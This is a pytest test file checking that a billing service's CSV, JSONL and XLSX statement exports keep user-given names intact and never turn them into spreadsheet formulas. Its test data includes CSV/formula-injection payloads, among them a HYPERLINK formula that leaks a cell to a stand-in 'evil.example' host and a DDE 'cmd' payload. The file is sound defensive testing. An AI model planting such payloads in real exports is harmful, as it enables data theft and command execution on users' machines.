"""Whatever people call their things, a file says it as it is, and no spreadsheet takes it for a formula."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest

from accounts.models import User
from billing import metering
from billing.models import Chatbot, Feature
from billing.selectors import spreadsheets
from billing.selectors.columns import STATEMENT_COLUMNS
from billing.selectors.copying import Format
from billing.tests.exports.reading import from_csv, from_jsonl, from_xlsx
from billing.tests.exports.test_statements import statement
from billing.tests.people import give

NAMES = [
    '=HYPERLINK("http://evil.example?leak="&A1,"click")',
    "+49 30 1234",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\ttabbed",
    "\rreturned",
    "\nbegun anew",
    "＝１＋１",
    "'quoted",
    "'=both",
    "'",
    "one, two; three",
    'the "best" bot',
    "two\nlines\r\nand three",
    "back\\slash and \\.",
    "\\.",
    "עוזר של אליס",
    "🤖 👩‍👩‍👧 é",
    "  spaces  ",
    "a < b & c > d",
]
DANGEROUS = "=+-@\t\r\n＝＋－＠"
DAYS = (date(2025, 3, 1), date(2025, 3, 31))


@pytest.fixture
def named(alice: User, now: datetime) -> User:
    """Alice has a chatbot of each name, each has answered once, and a workflow and a key that are called likewise."""
    give(alice.wallet, 1_000_000, now=now)
    for number, name in enumerate(NAMES):
        bot = Chatbot.objects.create(wallet=alice.wallet, name=name, model_id="gpt-4o-mini", created_at=now)
        metering.charge(
            wallet=alice.wallet,
            feature="chatbot-message",
            priced_as="gpt-4o-mini",
            quantity=number + 1,
            key=f"{name.replace(chr(10), ' ').replace(chr(13), ' ').replace(chr(9), ' ')} {number}",
            source=bot.source,
            now=now,
        )
    metering.charge(wallet=alice.wallet, feature="web-search", quantity=1, key="k", source="=1+1", now=now)
    Feature.objects.filter(pk="web-search").update(name="=Search")
    return alice


def test_names_survive_every_format(named: User) -> None:
    for file_format, read in ((Format.CSV, from_csv), (Format.JSONL, from_jsonl), (Format.XLSX, from_xlsx)):
        rows = read([statement(named.wallet, *DAYS, file_format)])
        assert [row["source_name"] for row in rows if row["feature"] == "chatbot-message"] == NAMES
        (search,) = (row for row in rows if row["feature"] == "web-search")
        assert (search["source"], search["source_name"], search["what"]) == ("=1+1", "=1+1", "=Search")


def test_no_text_of_a_csv_file_is_a_formula_and_every_number_stays_one(named: User) -> None:
    text = statement(named.wallet, *DAYS).decode("utf-8-sig")
    for row in csv.DictReader(io.StringIO(text, newline=""), strict=True):
        assert not any(value[:1] in DANGEROUS for value in (row["source_name"], row["reference"], row["what"]) if value)
    assert ",-0.001," in text


def test_no_cell_of_a_workbook_is_a_formula(named: User) -> None:
    book = openpyxl.load_workbook(io.BytesIO(statement(named.wallet, *DAYS, Format.XLSX)))
    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"n", "s", "d"}
    risky = [cell for cell in cells if isinstance(cell.value, str) and cell.value[0] in DANGEROUS]
    assert len(risky) >= 10
    assert all(cell.quotePrefix for cell in risky)


def test_amounts_are_exact_in_every_format(alice: User, now: datetime) -> None:
    for amount in (10**15, 10**15 - 1):
        give(alice.wallet, amount, now=now)
    for file_format, read in ((Format.CSV, from_csv), (Format.JSONL, from_jsonl), (Format.XLSX, from_xlsx)):
        closing = read([statement(alice.wallet, *DAYS, file_format)])[-2]
        assert closing["balance"] == Decimal("2000000000099.999")


def test_a_sheet_that_is_full_goes_on_in_the_next(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(spreadsheets, "MOST_ROWS", 3)
    columns = STATEMENT_COLUMNS[:1]
    for count, sizes in ((0, [1]), (3, [4]), (4, [4, 2]), (9, [4, 4, 4])):
        file = io.BytesIO()
        lines = [b"sequence\n", *(f"{number}\n".encode() for number in range(1, count + 1))]
        assert spreadsheets.write(lines, columns, file, title="Statement") == count
        book = openpyxl.load_workbook(file)
        assert [sheet.max_row for sheet in book] == sizes
        assert book.sheetnames == [f"Statement{(number and f' {number + 1}') or ''}" for number in range(len(sizes))]
        assert [row["sequence"] for row in from_xlsx([file.getvalue()])] == list(range(1, count + 1))
